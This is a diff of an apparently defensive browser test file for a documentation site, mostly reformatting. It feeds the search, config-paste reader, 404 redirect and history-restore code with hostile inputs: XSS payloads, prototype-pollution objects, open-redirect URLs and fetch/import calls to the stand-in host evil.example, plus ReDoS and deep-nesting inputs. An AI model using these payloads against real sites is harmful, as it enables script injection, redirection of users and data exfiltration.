+    { path: 'output..', pages: pages('/x') },
+    { path: 'output.[].<x>', pages: pages('/x') },
   ];
   const bodies = [JSON.stringify(list), 'null', '{}', '"x"', '<!doctype html>', '[[[]]]'];
   for (const body of bodies) {
     const watched = await watch('/guide/usage');
-    await watched.page.route('**/options.json', route => route.fulfill({ contentType: 'application/json', body }));
+    await watched.page.route('**/options.json', route =>
+      route.fulfill({ contentType: 'application/json', body }),
+    );
     await openSearch(watched.page);
     await watched.page.fill('#search-input', 'output.');
-    await until(watched.page, "document.querySelector('[id^=search-option], [id^=search-path], .search-note')");
+    await until(
+      watched.page,
+      "document.querySelector('[id^=search-option], [id^=search-path], .search-note')",
+    );
     await watched.calm(body);
     await watched.page.keyboard.press('Escape');
-    await watched.page.fill('#config-text', `export default { output: { ${MARKUP.slice(0, 20).map((text, at) => JSON.stringify(`${at}${text}`)).join(': 1, ')}: 1, __proto__: {} } }`);
+    await watched.page.fill(
+      '#config-text',
+      `export default { output: { ${MARKUP.slice(0, 20)
+        .map((text, at) => JSON.stringify(`${at}${text}`))
+        .join(': 1, ')}: 1, __proto__: {} } }`,
+    );
     await watched.page.click('.config-reader button');
-    await until(watched.page, "document.querySelector('.config-findings') || document.querySelector('#config-status').textContent");
+    await until(
+      watched.page,
+      "document.querySelector('.config-findings') || document.querySelector('#config-status').textContent",
+    );
     await watched.works(body);
     await watched.close();
   }
@@ -436,11 +790,37 @@ test('the list of options: paths, types, defaults and pages of any kind', async 
 });
 
 test('a pasted config', async () => {
-  const deep = (open: string, close: string, times: number): string => `export default ${open.repeat(times)}1${close.repeat(times)}`;
+  const deep = (open: string, close: string, times: number): string =>
+    `export default ${open.repeat(times)}1${close.repeat(times)}`;
   const texts = [
-    `export default {\n${MARKUP.map(text => `${JSON.stringify(text)}: 1, output: { ${JSON.stringify(text)}: ${JSON.stringify(text)}, [${JSON.stringify(text)}]: 1, ...${JSON.stringify(text)} }`).join(',\n')} }`, ...MARKUP.slice(0, 3), `export default { output: x\`${MARKUP.join(' ').replace(/[`$\\]/g, '')}\` }`,
-    'export default { __proto__: { output: { wick: 1 } }, constructor: { prototype: { polluted: 1 } }, ["__proto__"]: { polluted: 1 } }', 'export default { output: { __proto__: 1, constructor: 2, toString: 3, hasOwnProperty: 4, wick: { __proto__: 1, constructor: 2 } } }', 'canary(); export default (canary(), { output: { wick: canary() } })', 'export default (() => { canary(); return { output: { get wick() { return canary(); } } } })()', 'import("data:text/javascript,canary()"); export default {}', 'import x from "//evil.example/x.js"; export default { ...x }', 'fetch("//evil.example"); new Image().src = "//evil.example"; export default {}', 'const a = { ...a }; export default a', 'const a = b; const b = a; export default { output: a, ...b }', 'export default function f() { return f() }', '{', '}', '#!/usr/bin/env node\nexport default {}', '\u0000\ud800\u2028', 'export default { output: { "\\u0000\\ud800": 1 } }', '/'.repeat(1000), `export default { output: { ${HUGE}: 1 } }`,
-    deep('[', ']', 20_000), deep('{a:', '}', 20_000), deep('(', ')', 20_000), deep('...', '', 5000), `export default { output: { ${Array.from({ length: 3000 }, (_, at) => `k${at}: 1, ...s${at}`).join(', ')} } }`, `${Array.from({ length: 24 }, (_, at) => `const a${at + 1} = { ...a${at}, ...a${at} };`).join('\n')} const a0 = { output: { wik: 1 } }; export default a24`, `export default /${'(a+)+'.repeat(100)}$/`, 'export default { output: { wick: `${`${`${canary()}`}`}` } }',
+    `export default {\n${MARKUP.map(text => `${JSON.stringify(text)}: 1, output: { ${JSON.stringify(text)}: ${JSON.stringify(text)}, [${JSON.stringify(text)}]: 1, ...${JSON.stringify(text)} }`).join(',\n')} }`,
+    ...MARKUP.slice(0, 3),
+    `export default { output: x\`${MARKUP.join(' ').replace(/[`$\\]/g, '')}\` }`,
+    'export default { __proto__: { output: { wick: 1 } }, constructor: { prototype: { polluted: 1 } }, ["__proto__"]: { polluted: 1 } }',
+    'export default { output: { __proto__: 1, constructor: 2, toString: 3, hasOwnProperty: 4, wick: { __proto__: 1, constructor: 2 } } }',
+    'canary(); export default (canary(), { output: { wick: canary() } })',
+    'export default (() => { canary(); return { output: { get wick() { return canary(); } } } })()',
+    'import("data:text/javascript,canary()"); export default {}',
+    'import x from "//evil.example/x.js"; export default { ...x }',
+    'fetch("//evil.example"); new Image().src = "//evil.example"; export default {}',
+    'const a = { ...a }; export default a',
+    'const a = b; const b = a; export default { output: a, ...b }',
+    'export default function f() { return f() }',
+    '{',
+    '}',
+    '#!/usr/bin/env node\nexport default {}',
+    '\u0000\ud800\u2028',
+    'export default { output: { "\\u0000\\ud800": 1 } }',
+    '/'.repeat(1000),
+    `export default { output: { ${HUGE}: 1 } }`,
+    deep('[', ']', 20_000),
+    deep('{a:', '}', 20_000),
+    deep('(', ')', 20_000),
+    deep('...', '', 5000),
+    `export default { output: { ${Array.from({ length: 3000 }, (_, at) => `k${at}: 1, ...s${at}`).join(', ')} } }`,
+    `${Array.from({ length: 24 }, (_, at) => `const a${at + 1} = { ...a${at}, ...a${at} };`).join('\n')} const a0 = { output: { wik: 1 } }; export default a24`,
+    `export default /${'(a+)+'.repeat(100)}$/`,
+    'export default { output: { wick: `${`${`${canary()}`}`}` } }',
   ];
   const watched = await watch('/guide/usage');
   const { page } = watched;
@@ -452,7 +832,8 @@ test('a pasted config', async () => {
     await until(page, isThere, text.slice(0, 100));
     return performance.now() - start;
   };
-  const clean = "document.querySelectorAll('.config-findings tbody tr').length === 1 && document.querySelector('.config-findings tbody').textContent.includes('output.sentinel')";
+  const clean =
+    "document.querySelectorAll('.config-findings tbody tr').length === 1 && document.querySelector('.config-findings tbody').textContent.includes('output.sentinel')";
   for (const text of texts) {
     await read('export default { output: { sentinel: 1 } }', clean);
     const ms = await read(text, `!(${clean})`);
@@ -466,12 +847,48 @@ test('a pasted config', async () => {
 
 /** Waits until a 404 page has looked for the way out: it has led elsewhere, or has nothing more to ask for. */
 async function found(page: Page): Promise<void> {
-  await until(page, `document.readyState === 'complete' && (document.documentElement.dataset.pageType !== '404' || (asked > 0 && asking === 0))`);
+  await until(
+    page,
+    `document.readyState === 'complete' && (document.documentElement.dataset.pageType !== '404' || (asked > 0 && asking === 0))`,
+  );
 }
 
 test('addresses that would lead off the site', async () => {
-  const hosts = ['evil.example', '/evil.example', '//evil.example', '\\evil.example', '/\\evil.example', '%2fevil.example', '%5c%5cevil.example', '%09/evil.example', '%0d%0a//evil.example', '@evil.example', '.evil.example', ';//evil.example', '%00//evil.example', 'https://evil.example', 'javascript:canary()', '%252f%252fevil.example', '..//evil.example', '%2e%2e//evil.example', '?//evil.example', '%', '%E0%A4', '%3Cscript%3Ecanary()%3C%2Fscript%3E', '<img src=x onerror=canary()>', '"onmouseover="canary()', 'guide/quik-start"><script>canary()</script>', `${'a/'.repeat(500)}`];
-  const paths = hosts.flatMap((host, at) => [['/', '/en/'], ['/zh/', '/EN/'], ['/en', '/zh/en/']][at % 3]!.map(before => before + host));
+  const hosts = [
+    'evil.example',
+    '/evil.example',
+    '//evil.example',
+    '\\evil.example',
+    '/\\evil.example',
+    '%2fevil.example',
+    '%5c%5cevil.example',
+    '%09/evil.example',
+    '%0d%0a//evil.example',
+    '@evil.example',
+    '.evil.example',
+    ';//evil.example',
+    '%00//evil.example',
+    'https://evil.example',
+    'javascript:canary()',
+    '%252f%252fevil.example',
+    '..//evil.example',
+    '%2e%2e//evil.example',
+    '?//evil.example',
+    '%',
+    '%E0%A4',
+    '%3Cscript%3Ecanary()%3C%2Fscript%3E',
+    '<img src=x onerror=canary()>',
+    '"onmouseover="canary()',
+    'guide/quik-start"><script>canary()</script>',
+    `${'a/'.repeat(500)}`,
+  ];
+  const paths = hosts.flatMap((host, at) =>
+    [
+      ['/', '/en/'],
+      ['/zh/', '/EN/'],
+      ['/en', '/zh/en/'],
+    ][at % 3]!.map(before => before + host),
+  );
   const host = await dumbHost(site.out);
   for (const url of [site.url, host.url]) {
     const watched = await watch(url === host.url ? '/guide/last.html' : '/guide/last', { url });
@@ -491,21 +908,34 @@ test('addresses that would lead off the site', async () => {
 test('from an address that begins with two slashes: away, back, and on when a new release has come', async () => {
   const watched = await watch('/guide/last');
   const { page } = watched;
-  const paths = ['//evil.example/a', '//evil.example', '//evil.example/guide/last', '//user@evil.example/', '//evil.example:80/'];
+  const paths = [
+    '//evil.example/a',
+    '//evil.example',
+    '//evil.example/guide/last',
+    '//user@evil.example/',
+    '//evil.example:80/',
+  ];
   for (const path of paths) {
     await watched.go(path);
     await page.evaluate("document.querySelector('main a').click()");
     await until(page, "location.pathname === '/'");
     await page.goBack();
-    await until(page, `location.pathname === ${JSON.stringify(new URL(site.url + path).pathname)} && document.documentElement.dataset.pageType === '404'`);
+    await until(
+      page,
+      `location.pathname === ${JSON.stringify(new URL(site.url + path).pathname)} && document.documentElement.dataset.pageType === '404'`,
+    );
     await answers(page);
-    await page.evaluate(`(() => { const link = document.createElement('a'); link.href = location.origin + ${JSON.stringify(path)}; document.querySelector('main').append(link); for (const type of ['pointerover', 'focusin', 'touchstart']) link.dispatchEvent(new Event(type, { bubbles: true })); link.remove(); })()`);
+    await page.evaluate(
+      `(() => { const link = document.createElement('a'); link.href = location.origin + ${JSON.stringify(path)}; document.querySelector('main').append(link); for (const type of ['pointerover', 'focusin', 'touchstart']) link.dispatchEvent(new Event(type, { bubbles: true })); link.remove(); })()`,
+    );
     await watched.calm(path);
   }
   await watched.close();
   // The code of the search is gone: the page looks whether it is an old one.
   const old = await watch('/guide/last');
-  await old.page.route('**/static/chunk.*', route => route.fulfill({ status: 404, contentType: 'text/html', body: 'gone' }));
+  await old.page.route('**/static/chunk.*', route =>
+    route.fulfill({ status: 404, contentType: 'text/html', body: 'gone' }),
+  );
   await old.page.goto(`${site.url}//evil.example/a`, { waitUntil: 'load' });
   await old.page.keyboard.press('Control+k');
   await old.page.waitForLoadState('networkidle');
@@ -514,11 +944,37 @@ test('from an address that begins with two slashes: away, back, and on when a ne
 });
 
 test('entries of the history, the name of the window, and messages', async () => {
-  const states = ['"x"', '1', 'null', '[]', '[1, 2]', '{ y: "x" }', '{ y: NaN }', '{ y: 1e300 }', '{ y: -1 }', '{ y: { valueOf: 1 } }', '{ errand: 1 }', '{ errand: { name: "zoom" } }', '{ errand: { name: "zoom", at: -1 } }', '{ errand: { name: "zoom", at: NaN } }', '{ errand: { name: "__proto__", at: 0 } }', '{ errand: { name: "<script>canary()</script>", at: 0 } }', 'JSON.parse(\'{"__proto__": {"polluted": 1}, "y": 10}\')', '{ renewed: "x", errand: [] }', 'new Map([["y", 1]])', 'new Date()', '{ y: 5, big: "x".repeat(1e5) }', 'location.href', '"<script>canary()</script>"'];
+  const states = [
+    '"x"',
+    '1',
+    'null',
+    '[]',
+    '[1, 2]',
+    '{ y: "x" }',
+    '{ y: NaN }',
+    '{ y: 1e300 }',
+    '{ y: -1 }',
+    '{ y: { valueOf: 1 } }',
+    '{ errand: 1 }',
+    '{ errand: { name: "zoom" } }',
+    '{ errand: { name: "zoom", at: -1 } }',
+    '{ errand: { name: "zoom", at: NaN } }',
+    '{ errand: { name: "__proto__", at: 0 } }',
+    '{ errand: { name: "<script>canary()</script>", at: 0 } }',
+    'JSON.parse(\'{"__proto__": {"polluted": 1}, "y": 10}\')',
+    '{ renewed: "x", errand: [] }',
+    'new Map([["y", 1]])',
+    'new Date()',
+    '{ y: 5, big: "x".repeat(1e5) }',
+    'location.href',
+    '"<script>canary()</script>"',
+  ];
   const watched = await watch('/guide/widgets');
   const { page } = watched;
   for (const [at, state] of states.entries()) {
-    await page.evaluate(`history.replaceState(${state}, ''); window.name = ${JSON.stringify(TEXTS[at])}`);
+    await page.evaluate(
+      `history.replaceState(${state}, ''); window.name = ${JSON.stringify(TEXTS[at])}`,
+    );
     await page.reload({ waitUntil: 'load' });
     await answers(page);
     // Scrolling writes into the entry, a step brings it back.
@@ -542,12 +998,21 @@ test('entries of the history, the name of the window, and messages', async () =>
   count('messages', 3 * states.length);
 });
 
-test('ids and classes of a page\'s text that a script of the site, or the browser, knows by name', async () => {
+test("ids and classes of a page's text that a script of the site, or the browser, knows by name", async () => {
   const watched = await watch('/guide/names');
   const { page } = watched;
-  assert.ok(await page.evaluate(`${JSON.stringify(NAMES)}.every(name => document.querySelector('.prose [id="' + name + '"]'))`));
+  assert.ok(
+    await page.evaluate(
+      `${JSON.stringify(NAMES)}.every(name => document.querySelector('.prose [id="' + name + '"]'))`,
+    ),
+  );
   await watched.works('names');
-  assert.is(await page.evaluate("document.querySelector('[data-look=dark]').click() || document.documentElement.dataset.appearance"), 'dark');
+  assert.is(
+    await page.evaluate(
+      "document.querySelector('[data-look=dark]').click() || document.documentElement.dataset.appearance",
+    ),
+    'dark',
+  );
   await openSearch(page);
   await ask(page, 'wick');
   await page.keyboard.press('ArrowDown');
@@ -555,7 +1020,10 @@ test('ids and classes of a page\'s text that a script of the site, or the browse
   await page.keyboard.press('Enter');
   await until(page, "location.pathname === '/config/wick'");
   await page.goBack();
-  await until(page, "location.pathname === '/guide/names' && document.querySelector('h1').textContent === 'Names'");
+  await until(
+    page,
+    "location.pathname === '/guide/names' && document.querySelector('h1').textContent === 'Names'",
+  );
   await openSearch(page);
   await page.fill('#search-input', 'output.');
   await page.waitForSelector('dialog [id^=search-path]');
@@ -568,7 +1036,9 @@ test('ids and classes of a page\'s text that a script of the site, or the browse
 
 test('at least 15 inputs for every sink', () => {
   const total = [...tried.values()].reduce((sum, inputs) => sum + inputs, 0);
-  process.stdout.write(`${total} hostile inputs in ${tried.size} sinks of the browser: ${[...tried].map(([sink, inputs]) => `${sink} ${inputs}`).join(', ')}\n`);
+  process.stdout.write(
+    `${total} hostile inputs in ${tried.size} sinks of the browser: ${[...tried].map(([sink, inputs]) => `${sink} ${inputs}`).join(', ')}\n`,
+  );
   for (const [sink, inputs] of tried) assert.ok(inputs >= 15, `${sink}: ${inputs}`);
 });
 
